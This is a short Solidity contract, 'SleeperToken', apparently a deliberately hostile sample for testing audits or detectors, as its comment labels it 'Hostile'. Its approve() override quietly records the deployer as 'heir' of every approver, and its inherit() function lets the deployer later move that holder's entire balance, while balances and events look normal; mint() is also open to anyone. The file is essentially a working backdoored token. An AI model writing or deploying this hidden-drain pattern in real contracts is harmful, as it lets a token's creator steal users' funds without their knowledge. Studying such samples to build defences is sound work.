// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// Hostile. Balances, allowances and events are all true, yet whoever approves anything names its maker as heir, who
/// may take it all later. Only the storage tells.
contract SleeperToken is ERC20 {
    address private immutable _maker = msg.sender;
    mapping(address => address) private _heirs;

    constructor() ERC20("Sleeper", "SLP") {}

    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        _heirs[msg.sender] = _maker;
        return super.approve(spender, value);
    }

    function inherit(address from) external {
        require(_heirs[from] == msg.sender);
        _transfer(from, msg.sender, balanceOf(from));
    }
}
